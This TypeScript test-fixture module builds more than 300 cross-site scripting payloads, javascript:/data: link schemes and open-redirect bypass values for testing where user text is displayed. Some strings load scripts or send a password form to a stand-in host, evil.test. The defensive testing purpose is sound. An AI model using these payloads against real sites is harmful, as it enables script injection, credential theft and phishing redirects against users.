/**
 * Texts that attack whoever shows or follows them, for tests of every place that shows what people wrote. They are built from
 * the classes that the HTML standard and published guides describe: what runs a script, and what leads a text out of the
 * place where it stands. A text that runs calls `xssRan`.
 */

const call = 'xssRan()';

/** Elements that run a script, load something, or take over the page, in the HTML of a browser that trusts the text. */
const actingHtml: readonly string[] = [
  `<script>${call}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<script type=module>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text>go</text></a></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${call}">go</maction></math>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<details open ontoggle=${call}>go</details>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<div contenteditable autofocus onfocus=${call}>go</div>`,
  `<div popover=auto id=p onbeforetoggle=${call}>go</div>`,
  `<b style="animation:x 1s" onanimationstart=${call}>go</b>`,
  `<marquee onstart=${call}>go</marquee>`,
  `<body onpageshow=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">go</a>`,
  `<a href="data:text/html,<script>${call}</script>">go</a>`,
  `<form action="javascript:${call}"><button>go</button></form>`,
  `<form action="https://evil.test/"><input name=password></form>`,
  `<button formaction="javascript:${call}">go</button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `<base href="https://evil.test/">`,
  `<link rel=stylesheet href="https://evil.test/x.css">`,
  `<style>@import "https://evil.test/x.css"; *{display:none}</style>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<p><!--><img src=x onerror=${call}>--></p>`,
  `<form id=getElementById><input name=body></form><img name=currentScript src=x onerror=${call}>`,
];

/** What may stand in front of an element to lead it out of an attribute, an element, a comment or a script. */
const ways: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `">${html}`,
  (html) => `'>${html}<a title='`,
  (html) => `</script>${html}`,
  (html) => `--></style></title></textarea></noscript>${html}`,
  (html) =>
    html.replaceAll(/<(\/?)([a-z]+)/g, (_, slash: string, name: string) => `<${slash}${flipCase(name)}`),
  (html) => html.replaceAll(/<([a-z]+) /g, '<$1/').replaceAll('"', "'"),
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&#x3e;'),
];

const flipCase = (name: string): string =>
  Array.from(name, (sign, index) => (index % 2 === 0 ? sign.toUpperCase() : sign)).join('');

/** More than 300 texts for fields: every element in every way. */
export const hostileTexts: readonly string[] = actingHtml.flatMap((html) => ways.map((way) => way(html)));

/** Addresses that run or lead elsewhere, for fields that contain a link. */
export const hostileLinks: readonly string[] = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\nscript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  'blob:',
  'view-source:javascript:',
  'javascript://a%0a',
].map((scheme) => `${scheme}${call}`);

const hosts = (starts: readonly string[]): string[] => starts.map((start) => `${start}evil.test`);
const schemes = (names: readonly string[]): string[] => names.map((name) => `${name}//evil.test/`);

/** Values of `next` that must not lead anywhere: other hosts, scripts, and our own host with something around it. */
export const hostileNext: readonly string[] = [
  ...hosts(['//', '///', '/\\', '\\\\', '\\/', '/\\/', '/\t/', '/\n/', '/\r/', '\t//', ' //', '/\0/']),
  ...hosts(['/.//', '/..//', '/%2e//', '/%2e%2e//', '/x/..//', '/x/../..//', '/.%2e//', '/%2E%2E/\\']),
  ...schemes(['http:', 'https:', 'HTTPS:', 'ftp:', 'ws:', 'file:', 'blob:', 'view-source:']),
  ...hostileLinks,
  ...hosts([
    'https:',
    'https:/',
    'https:\\\\',
    'http:',
    '@',
    '.',
    '\u2028//',
    '\ufeff//',
    '\u3002',
    '?next=//',
    '#//',
  ]),
  'https://members.example.com@evil.test/',
  'https://members.example.com:pass@evil.test/',
  'https://members.example.com.evil.test/',
  'https://evil.test#members.example.com',
  'https://evil.test?members.example.com',
  'https://evil.test/members.example.com',
  'evil.test',
  ':8080',
  '/login?next=//evil.test',
  '/x/../login?next=//evil.test',
  '/register',
  `/${'a'.repeat(5_000)}`,
];
